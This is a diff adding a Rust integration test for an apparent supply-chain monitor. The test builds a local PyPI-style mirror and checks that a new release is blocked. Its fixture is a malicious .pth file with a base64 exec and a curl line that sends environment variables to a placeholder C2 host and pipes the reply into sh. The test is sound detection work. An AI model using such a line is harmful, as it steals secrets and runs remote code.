@@ -924,6 +924,129 @@ fn postgres_holds_the_state_when_given() {
     }
 }
 
+/// A wheel with `files`; its sha256 hex.
+fn wheel(path: &Path, files: &[(&str, &str)]) -> String {
+    use sha2::Digest as _;
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (p, d) in files {
+        w.start_file(*p, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        w.write_all(d.as_bytes()).unwrap();
+    }
+    let bytes = w.finish().unwrap().into_inner();
+    std::fs::write(path, &bytes).unwrap();
+    sha2::Sha256::digest(&bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+/// A directory index under `root` (`simple/demo/index.json`, `pypi/demo/json`, `files/`)
+/// holding one wheel per release `(version, members, upload time)`; the sha256 per version.
+fn python_mirror(
+    root: &Path,
+    releases: &[(&str, Vec<(&str, &str)>, &str)],
+) -> HashMap<String, String> {
+    let mut hashes = HashMap::new();
+    let (mut simple, mut api) = (Vec::new(), serde_json::Map::new());
+    std::fs::create_dir_all(root.join("files")).unwrap();
+    for (v, members, at) in releases {
+        let filename = format!("demo-{v}-py3-none-any.whl");
+        let sha = wheel(&root.join("files").join(&filename), members);
+        simple.push(
+            json!({"filename": filename, "url": format!("../../files/{filename}"),
+                           "hashes": {"sha256": sha}, "upload-time": at}),
+        );
+        api.insert(
+            v.to_string(),
+            json!([{"filename": filename, "digests": {"sha256": sha},
+                   "upload_time_iso_8601": at, "packagetype": "bdist_wheel", "yanked": false}]),
+        );
+        hashes.insert(v.to_string(), sha);
+    }
+    for (dir, file, body) in [
+        (
+            "simple/demo",
+            "index.json",
+            json!({"meta": {"api-version": "1.1"}, "name": "demo", "files": simple}),
+        ),
+        (
+            "pypi/demo",
+            "json",
+            json!({"info": {"name": "demo", "version": releases.last().unwrap().0},
+                                     "releases": api, "last_serial": 1}),
+        ),
+    ] {
+        std::fs::create_dir_all(root.join(dir)).unwrap();
+        std::fs::write(root.join(dir).join(file), body.to_string()).unwrap();
+    }
+    hashes
+}
+
+#[test]
+fn a_new_python_release_is_judged_by_the_python_gate_against_the_locked_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let mirror = d.join("mirror");
+    let v1 = (
+        "1.0",
+        vec![("demo/__init__.py", "x = 1\n")],
+        "2026-01-01T00:00:00Z",
+    );
+    let h = python_mirror(&mirror, &[v1.clone()]);
+    std::fs::write(
+        d.join("requirements.txt"),
+        format!("demo==1.0 --hash=sha256:{}\n", h["1.0"]),
+    )
+    .unwrap();
+    let index = format!("file://{}/simple/", mirror.display());
+    let args = [
+        "monitor",
+        "--lockfile",
+        "requirements.txt",
+        "--index-url",
+        &index,
+        "--database",
+        "s.sqlite",
+        "--format",
+        "jsonl",
+    ];
+    let first = turncoat(d, &args);
+    assert_eq!(
+        (first.code, first.stdout.as_str()),
+        (Some(0), ""),
+        "{}",
+        first.stderr
+    );
+
+    let pth = "import os, base64; exec(base64.b64decode('aW1wb3J0IG9z'))\nimport os; os.system('curl https://c2.invalid/$(env|base64) | sh')\n";
+    python_mirror(
+        &mirror,
+        &[
+            v1,
+            (
+                "1.1",
+                vec![("demo/__init__.py", "x = 1\n"), ("demo.pth", pth)],
+                "2026-05-01T00:00:00Z",
+            ),
+        ],
+    );
+    let second = turncoat(d, &args);
+    assert_eq!(second.code, Some(1), "{}\n{}", second.stdout, second.stderr);
+    let alerts = second.alerts();
+    assert_eq!(alerts[0]["code"], "monitor-new-version", "{alerts:#?}");
+    assert_eq!(alerts[0]["version"], "1.1");
+    assert_eq!(alerts[0]["locked"], "1.0");
+    assert_eq!(alerts[0]["verdict"], "block", "{alerts:#?}");
+    let findings: Vec<&str> = alerts[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    assert!(findings.contains(&"py-pth-exec"), "{findings:?}");
+}
+
 // ---------------------------------------------------------------- a real Verdaccio
 
 fn require_tools() -> bool {
